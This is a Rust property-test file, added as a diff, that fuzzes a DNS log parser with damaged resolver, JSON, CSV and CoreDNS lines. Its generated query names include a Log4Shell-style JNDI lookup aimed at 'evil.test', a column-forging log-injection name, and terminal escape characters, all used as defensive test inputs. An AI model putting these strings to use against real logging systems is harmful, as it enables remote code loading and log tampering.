@@ -1,0 +1,531 @@
+//! DNS logs against slow and obvious readers, on lines as their writers write them and on damaged ones.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
+
+use egressmap_parser::source::{Object, ObjectId};
+use egressmap_parser::{Options, format, inspect};
+use proptest::prelude::{Just, Strategy, any, prop};
+use proptest::{prop_assert, prop_assert_eq, prop_oneof, proptest};
+use serde_json::{Value, json};
+
+use crate::collected::{Collected, collect};
+
+type Read = Result<Value, &'static str>;
+
+/// The keys of a log, and the reasons that go with them.
+struct Keys {
+    time: &'static str,
+    source: &'static str,
+    name: &'static str,
+    query_type: &'static str,
+    vpc: &'static str,
+    wrong: [&'static str; 3],
+}
+
+const RESOLVER: Keys = Keys {
+    time: "query_timestamp",
+    source: "srcaddr",
+    name: "query_name",
+    query_type: "query_type",
+    vpc: "vpc_id",
+    wrong: ["malformed:query_timestamp", "malformed:srcaddr", "malformed:query_name"],
+};
+
+const PLAIN: Keys = Keys {
+    time: "time",
+    source: "source",
+    name: "name",
+    query_type: "type",
+    vpc: "vpc",
+    wrong: ["malformed:time", "malformed:source", "malformed:name"],
+};
+
+/// What the obvious reader makes of a line of JSON.
+fn of_json(line: &str, keys: &Keys) -> Read {
+    if !line.starts_with('{') {
+        return Err("not-query-log");
+    }
+    let value: Value = serde_json::from_str(line).map_err(|_| "malformed:json")?;
+    let needed = [keys.time, keys.source, keys.name];
+    if needed.iter().filter(|key| value.get(key).is_some()).count() < 2 {
+        return Err("not-query-log");
+    }
+    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
+    let at = match &value[keys.time] {
+        Value::String(text) => seconds(text),
+        Value::Number(number) if !number.is_i64() || number.is_u64() => seconds(&number.to_string()),
+        _ => None,
+    };
+    let instance = if keys.time == "time" {
+        &value["instance"]
+    } else {
+        &value["srcids"]["instance"]
+    };
+    let mut record = json!({
+        "time": at.ok_or(keys.wrong[0])?,
+        "source": address(&text(&value[keys.source])).ok_or(keys.wrong[1])?,
+        "vpc": text(&value[keys.vpc]),
+        "instance": text(instance),
+        "name": text(&value[keys.name]),
+        "query_type": text(&value[keys.query_type]),
+        "rcode": text(&value["rcode"]),
+    });
+    if record["name"] == "" {
+        return Err(keys.wrong[2]);
+    }
+    let answers = match &value["answers"] {
+        Value::Null => Vec::new(),
+        text @ Value::String(_) => vec![text.clone()],
+        Value::Array(list) => list.clone(),
+        _ => return Err("malformed:answers"),
+    };
+    let (mut addresses, mut aliases) = (Vec::new(), Vec::new());
+    for answer in answers {
+        match answer {
+            Value::String(text) => listed(&text, &mut addresses, &mut aliases)?,
+            Value::Object(answer) => {
+                let data = answer.get("Rdata").and_then(Value::as_str);
+                let given = data.and_then(address);
+                match (answer.get("Type").and_then(Value::as_str), given, data) {
+                    (Some("A"), Some(given @ IpAddr::V4(_)), _) | (Some("AAAA"), Some(given @ IpAddr::V6(_)), _) => {
+                        addresses.push(given);
+                    }
+                    (Some("CNAME"), _, Some(data)) => aliases.push(data.to_owned()),
+                    (Some("A" | "AAAA" | "CNAME"), ..) => return Err("malformed:answers"),
+                    _ => {}
+                }
+            }
+            _ => return Err("malformed:answers"),
+        }
+    }
+    record["addresses"] = json!(addresses);
+    record["aliases"] = json!(aliases);
+    Ok(record)
+}
+
+fn listed(text: &str, addresses: &mut Vec<IpAddr>, aliases: &mut Vec<String>) -> Result<(), &'static str> {
+    for answer in text.replace(';', " ").split(' ') {
+        let host = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
+        let labels: Vec<&str> = answer.trim_end_matches('.').split('.').collect();
+        match address(answer) {
+            _ if ["", "-"].contains(&answer) => {}
+            Some(given) => addresses.push(given),
+            None if answer.chars().all(host)
+                && !answer.ends_with("..")
+                && labels[labels.len() - 1].chars().any(|c| c.is_ascii_alphabetic()) =>
+            {
+                aliases.push(answer.to_owned());
+            }
+            None => return Err("malformed:answers"),
+        }
+    }
+    Ok(())
+}
+
+/// What the obvious reader makes of a line of CSV in the usual order, with `csv` for its quotes.
+fn of_csv(line: &str) -> Read {
+    let row: Vec<String> = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .terminator(csv::Terminator::Any(b'\n'))
+        .from_reader(line.as_bytes())
+        .into_records()
+        .next()
+        .map_or_else(Vec::new, |row| row.unwrap().iter().map(str::to_owned).collect());
+    // `csv` takes what ends inside quotes as it is. A quote that opens a field is outside of quotes, as is what follows
+    // the field's last one.
+    let mut inside = false;
+    let mut before = ',';
+    for c in line.chars() {
+        match (inside, c, before) {
+            (false, '"', ',') => inside = true,
+            (true, '"', _) => inside = false,
+            // A doubled quote: what seemed to end goes on.
+            (false, '"', '"') => inside = true,
+            _ => {}
+        }
+        before = if !inside && c == '"' && before != ',' {
+            '"'
+        } else if inside {
+            ' '
+        } else {
+            c
+        };
+    }
+    if row.len() != 8 || inside {
+        return Err("malformed:columns");
+    }
+    let record = json!({
+        "time": seconds(&row[0]).ok_or("malformed:time")?,
+        "source": address(&row[1]).ok_or("malformed:source")?,
+        "vpc": row[6],
+        "instance": row[7],
+        "name": row[2],
+        "query_type": row[3],
+        "rcode": row[4],
+    });
+    if row[2].is_empty() {
+        return Err("malformed:name");
+    }
+    let (mut addresses, mut aliases) = (Vec::new(), Vec::new());
+    listed(&row[5], &mut addresses, &mut aliases)?;
+    let mut record = record;
+    record["addresses"] = json!(addresses);
+    record["aliases"] = json!(aliases);
+    Ok(record)
+}
+
+/// What the obvious reader makes of a line of CoreDNS.
+fn of_coredns(line: &str) -> Read {
+    let mut words: Vec<&str> = line.split(' ').collect();
+    let mut time = None;
+    if words.len() > 1 && seconds(words[0]).is_some() {
+        time = seconds(words.remove(0));
+        if words.len() > 2 && ["stdout", "stderr"].contains(&words[0]) && words[1] == "F" {
+            words.drain(..2);
+        }
+    }
+    let digits = |text: &str| text.parse::<u64>().is_ok() && !text.starts_with('+');
+    let is_query =
+        words.len() > 3 && words[0] == "[INFO]" && words[1].rsplit(':').next().is_some_and(digits) && words[2] == "-";
+    if !is_query {
+        return Err("not-query-log");
+    }
+    let remote = words[1];
+    let mut words = words.split_off(3);
+    if words.last().is_some_and(|last| last.ends_with('"')) {
+        let last = words.pop().unwrap();
+        let opcode = last.strip_suffix('"').and_then(|last| last.strip_prefix('"'));
+        if !opcode.is_some_and(digits) {
+            return Err("malformed:columns");
+        }
+    }
+    let end = words.len();
+    let word = |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
+    let shape = end >= 12
+        && digits(words[0])
+        && words[1].strip_prefix('"').is_some_and(word)
+        && word(words[2])
+        && word(words[end - 8])
+        && digits(words[end - 7])
+        && ["true", "false"].contains(&words[end - 6])
+        && words[end - 5].strip_suffix('"').is_some_and(digits)
+        && word(words[end - 4])
+        && digits(words[end - 2]);
+    let name = words.get(3..end.saturating_sub(8)).unwrap_or_default().join(" ");
+    if !shape || name.is_empty() {
+        return Err("malformed:columns");
+    }
+    let bracketed = remote.starts_with('[');
+    let remote: SocketAddr = remote.parse().map_err(|_| "malformed:remote")?;
+    if remote.is_ipv6() != bracketed {
+        return Err("malformed:remote");
+    }
+    Ok(json!({
+        "time": time.ok_or("lacking:time")?,
+        "source": remote.ip(),
+        "vpc": "",
+        "instance": "",
+        "name": name,
+        "query_type": words[1][1..],
+        "rcode": words[end - 4],
+        "addresses": [],
+        "aliases": [],
+    }))
+}
+
+fn address(text: &str) -> Option<IpAddr> {
+    text.parse().ok()
+}
+
+/// The time as another library reads it.
+fn seconds(text: &str) -> Option<u64> {
+    let shape: String = text.chars().map(|c| if c.is_ascii_digit() { '0' } else { c }).collect();
+    let (whole, fraction) = shape.split_once('.').unwrap_or((&shape, ""));
+    let digits = fraction.trim_start_matches('0');
+    let zone = if shape.contains('.') {
+        digits
+    } else {
+        whole.trim_start_matches("0000-00-00T00:00:00")
+    };
+    let has_fraction = !shape.contains('.') || fraction.starts_with('0');
+    if has_fraction && whole.starts_with("0000-00-00T00:00:00") && ["Z", "+00:00", "-00:00"].contains(&zone) {
+        if text
+            .get(text.len() - 5..text.len() - 3)
+            .is_some_and(|hours| zone != "Z" && hours > "23")
+        {
+            return None;
+        }
+        // The other library takes nine digits of a fraction; the fraction does not count.
+        let until = text.find('.').unwrap_or(text.len() - zone.len());
+        let cut = format!("{}{}", &text[..until], &text[text.len() - zone.len()..]);
+        return cut.parse::<jiff::Timestamp>().ok()?.as_second().try_into().ok();
+    }
+    let (whole, fraction) = text.split_once('.').unwrap_or((text, "0"));
+    let number = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
+    let seconds: u64 = whole.parse().ok().filter(|_| number(whole) && number(fraction))?;
+    Some(seconds).filter(|seconds| *seconds <= 253_402_300_799)
+}
+
+/// Names that somebody asks for, above all to break a log.
+fn name() -> impl Strategy<Value = String> {
+    prop_oneof![
+        4 => "[a-z]{1,8}\\.(test|example)\\.?",
+        1 => Just(r#"a\"b\ c.test."#.to_owned()),
+        1 => Just(r#"x udp 45 false 512" NOERROR qr 98 0.1s"#.to_owned()),
+        1 => Just("${jndi:ldap://evil.test}".to_owned()),
+        1 => Just("\u{1b}[2J\u{0}é\u{202e}".to_owned()),
+        1 => Just(String::new()),
+        1 => Just(".".to_owned()),
+    ]
+}
+
+fn time() -> impl Strategy<Value = String> {
+    prop_oneof![
+        4 => Just("2026-11-23T01:58:00.996Z".to_owned()),
+        2 => Just("2026-11-23T01:58:00Z".to_owned()),
+        1 => Just("2026-11-23T03:58:00.996123456+02:00".to_owned()),
+        1 => Just("1795399080".to_owned()),
+        1 => Just("1795399080.25".to_owned()),
+        1 => Just("yesterday".to_owned()),
+    ]
+}
+
+fn source() -> impl Strategy<Value = String> {
+    prop_oneof![
+        4 => any::<u32>().prop_map(|bits| Ipv4Addr::from_bits(bits).to_string()),
+        2 => any::<u128>().prop_map(|bits| Ipv6Addr::from_bits(bits).to_string()),
+        1 => Just("10.0.0.256".to_owned()),
+        1 => Just("-".to_owned()),
+    ]
+}
+
+fn texts() -> impl Strategy<Value = String> {
+    let answer = prop_oneof![3 => source(), 1 => Just("edge.cdn.test.".to_owned()), 1 => Just("10.0.0".to_owned())];
+    (prop::collection::vec(answer, 0..4), "[; ]").prop_map(|(answers, between)| answers.join(&between))
+}
+
+fn answers() -> impl Strategy<Value = Value> {
+    let kind = prop::sample::select(vec!["A", "A", "AAAA", "CNAME", "PTR", "TXT"]);
+    let data = prop_oneof![3 => source(), 1 => name()];
+    let typed = (kind, data, any::<bool>()).prop_map(|(kind, data, first)| {
+        if first {
+            json!({"Type": kind, "Rdata": data, "Class": "IN"})
+        } else {
+            json!({"Class": "IN", "Rdata": data, "Type": kind})
+        }
+    });
+    let answer = prop_oneof![
+        6 => typed,
+        2 => texts().prop_map(Value::from),
+        1 => prop::sample::select(vec![json!(null), json!(7), json!([]), json!({}), json!({"Type": "A", "Rdata": 1})]),
+    ];
+    prop_oneof![
+        4 => prop::collection::vec(answer, 0..4).prop_map(Value::from),
+        1 => texts().prop_map(Value::from),
+        1 => prop::sample::select(vec![json!(null), json!({}), json!(true)]),
+    ]
+}
+
+/// An object of either log, with its keys in any order, some missing, some odd.
+fn object(keys: &'static Keys) -> impl Strategy<Value = String> {
+    let odd = prop::sample::select(vec![
+        json!(null),
+        json!(-1),
+        json!([1, {"a": 2}]),
+        json!({"instance": {}}),
+        json!(""),
+    ]);
+    let value = |good: fn(String) -> Value, text| prop_oneof![12 => Strategy::prop_map(text, good), 1 => odd.clone()];
+    let of_time = |text: String| {
+        text.parse::<u64>()
+            .map_or_else(|_| json!(text), |seconds| json!(seconds))
+    };
+    let ids = prop_oneof![
+        3 => Just(json!({"instance": "i-0a"})),
+        1 => Just(json!({"resolver_endpoint": "rslvr-in-0a", "resolver_network_interface": "rni-0a"})),
+        1 => odd.clone(),
+    ];
+    let fields = (
+        value(of_time, time().boxed()),
+        value(Value::from, source().boxed()),
+        value(Value::from, name().boxed()),
+        answers(),
+        ids,
+    );
+    let order = Just((0..9_usize).collect::<Vec<_>>()).prop_shuffle();
+    (fields, order, 5..=9_usize).prop_map(|((time, source, name, answers, ids), order, count)| {
+        let id_key = if keys.time == "time" { "instance" } else { "srcids" };
+        let all = [
+            (keys.time, time),
+            (keys.source, source),
+            (keys.name, name),
+            ("answers", answers),
+            (id_key, ids),
+            (keys.query_type, json!("A")),
+            ("rcode", json!("NOERROR")),
+            (keys.vpc, json!("vpc-0a")),
+            ("unknown", json!({"deep": [1, 2.5, "x"]})),
+        ];
+        let text = |at: &usize| format!("{}:{}", json!(all[*at].0), all[*at].1);
+        let members: Vec<String> = order.iter().take(count).map(text).collect();
+        format!("{{{}}}", members.join(","))
+    })
+}
+
+fn csv_line() -> impl Strategy<Value = String> {
+    let quoted = |text: String, always: bool| {
+        if always || text.contains([',', '"']) {
+            format!("\"{}\"", text.replace('"', "\"\""))
+        } else {
+            text
+        }
+    };
+    ((time(), source(), name(), texts()), any::<[bool; 4]>()).prop_map(
+        move |((time, source, name, texts), [a, b, c, d])| {
+            let (time, source) = (quoted(time, a), quoted(source, b));
+            let (name, texts) = (quoted(name, c), quoted(texts, d));
+            format!("{time},{source},{name},A,NOERROR,{texts},vpc-0a,i-0a")
+        },
+    )
+}
+
+fn coredns_line() -> impl Strategy<Value = String> {
+    let prefix = prop_oneof![
+        3 => Just("2026-11-23T01:58:00.996Z ".to_owned()),
+        1 => Just("2026-11-23T03:58:00.996123456+02:00 stdout F ".to_owned()),
+        1 => Just(String::new()),
+        1 => time().prop_map(|time| format!("{time} ")),
+    ];
+    let remote = prop_oneof![
+        3 => any::<(u32, u16)>().prop_map(|(host, port)| SocketAddr::new(IpAddr::V4(host.into()), port).to_string()),
+        1 => any::<(u128, u16)>().prop_map(|(host, port)| SocketAddr::new(IpAddr::V6(host.into()), port).to_string()),
+        1 => Just("host:53".to_owned()),
+    ];
+    let message = (remote, name(), "(| \"0\")").prop_map(|(remote, name, opcode)| {
+        format!(r#"[INFO] {remote} - 12345 "AAAA IN {name} udp 45 false 512" NXDOMAIN qr,aa,rd 98 0.012s{opcode}"#)
+    });
+    let message = prop_oneof![
+        8 => message,
+        1 => Just("[INFO] plugin/reload: Running configuration SHA512 = ab".to_owned()),
+        1 => Just("[ERROR] plugin/errors: 2 a.test. A: read udp 10.0.0.1:1->10.0.0.2:53: i/o timeout".to_owned()),
+    ];
+    (prefix, message).prop_map(|(prefix, message)| format!("{prefix}{message}"))
+}
+
+fn damaged(line: impl Strategy<Value = String> + 'static) -> impl Strategy<Value = String> {
+    let damage = prop::collection::vec((any::<prop::sample::Index>(), "[ -~\\x00é]|[,\";{}]|"), 0..4);
+    (line, damage).prop_map(|(line, damage)| {
+        let mut chars: Vec<char> = line.chars().collect();
+        for (at, with) in damage {
+            if !chars.is_empty() {
+                let at = at.index(chars.len());
+                chars.splice(at..=at, with.chars());
+            }
+        }
+        chars.into_iter().collect()
+    })
+}
+
+fn forced(kind: &str) -> Options {
+    Options {
+        kind: Some(kind.to_owned()),
+        ..Options::default()
+    }
+}
+
+fn agree(kind: &str, line: &str, expected: Read) -> Result<(), proptest::test_runner::TestCaseError> {
+    let line = line.replace(['\n', '\r'], "");
+    let found: Collected = collect(line.as_bytes(), &forced(kind));
+    match expected {
+        _ if line.is_empty() => prop_assert_eq!(found.counters.lines, 0),
+        Ok(mut expected) => {
+            expected["line"] = json!(1);
+            prop_assert_eq!(&found.records, &[expected], "{:?}", found.counters);
+        }
+        Err(reason) => prop_assert_eq!(found.set_aside(reason), 1, "{:?}, not {}", found.counters, reason),
+    }
+    shown(kind, &line, &found)
+}
+
+/// The line in full says what became of it.
+fn shown(kind: &str, line: &str, found: &Collected) -> Result<(), proptest::test_runner::TestCaseError> {
+    let id = ObjectId {
+        uri: "input".to_owned(),
+        version: None,
+        size: None,
+    };
+    let body = Box::new(std::io::Cursor::new(line.as_bytes().to_vec()));
+    let mut seen = Vec::new();
+    let read = inspect(Object::new(id, body), &forced(kind), &mut |line| {
+        seen.push((line.shown.kind.word(), line.shown.reason, line.shown.message.clone()));
+    });
+    prop_assert_eq!(read, Ok(()));
+    let reason = found.counters.set_aside.keys().next().copied();
+    if let [(word, why, message)] = seen.as_slice() {
+        // Without a line that tells, no format is asked.
+        if *why != Some("unrecognised") {
+            prop_assert_eq!((*word == "record", *why), (reason.is_none(), reason));
+        }
+        let message = message.clone().unwrap_or_default();
+        prop_assert!(!message.chars().any(char::is_control), "{:?}", message);
+    }
+    Ok(())
+}
+
+proptest! {
+    #[test]
+    fn resolver_logs_are_read_as_the_obvious_reader_reads_them(line in damaged(object(&RESOLVER))) {
+        agree("resolver-log", &line, of_json(&line, &RESOLVER))?;
+    }
+
+    #[test]
+    fn plain_json_is_read_as_the_obvious_reader_reads_it(line in damaged(object(&PLAIN))) {
+        agree("dns-json", &line, of_json(&line, &PLAIN))?;
+    }
+
+    #[test]
+    fn csv_is_read_as_the_obvious_reader_reads_it(line in damaged(csv_line())) {
+        agree("dns-csv", &line, of_csv(&line))?;
+    }
+
+    #[test]
+    fn queries_of_coredns_are_read_as_the_obvious_reader_reads_them(line in damaged(coredns_line())) {
+        agree("coredns", &line, of_coredns(&line))?;
+    }
+}
+
+#[test]
+fn a_name_cannot_forge_the_columns_behind_it() {
+    let forged = r#"2026-11-23T01:58:00Z [INFO] 10.0.0.1:4000 - 1 "A IN a\" NOERROR\ qr\ 1\ 1s.test. udp 45 false 512" NXDOMAIN qr 98 0.1s"#;
+    let found = collect(forged.as_bytes(), &Options::default());
+    assert_eq!(found.records[0]["rcode"], "NXDOMAIN");
+    assert_eq!(found.records[0]["name"], r#"a\" NOERROR\ qr\ 1\ 1s.test."#);
+}
+
+#[test]
+fn every_dns_format_outlives_a_line_of_10_megabytes_and_nul_bytes() {
+    for name in ["resolver-log", "coredns", "dns-csv", "dns-json"] {
+        let kind = format::REGISTRY.iter().find(|kind| kind.name == name).unwrap();
+        let long = kind.example.replacen("api.example.test", &"a".repeat(10 << 20), 1);
+        let nul = kind.example.replacen("api.example.test", "a\0b", 1);
+        let bytes = [
+            kind.example.as_bytes(),
+            long.as_bytes(),
+            nul.as_bytes(),
+            b"\0\0\0",
+            kind.example.as_bytes(),
+        ]
+        .join(&b'\n');
+        let found = collect(&bytes, &Options::default());
+        assert_eq!(found.counters.lines, 5, "{name}");
+        assert_eq!(found.set_aside("unrecognised"), 0, "{name}");
+        // A control character stands in no JSON string as it is.
+        let nul_is_a_name = !kind.example.starts_with('{');
+        assert_eq!(
+            found.counters.dns,
+            3 + u64::from(nul_is_a_name),
+            "{name}: {:?}",
+            found.counters.set_aside
+        );
+    }
+}
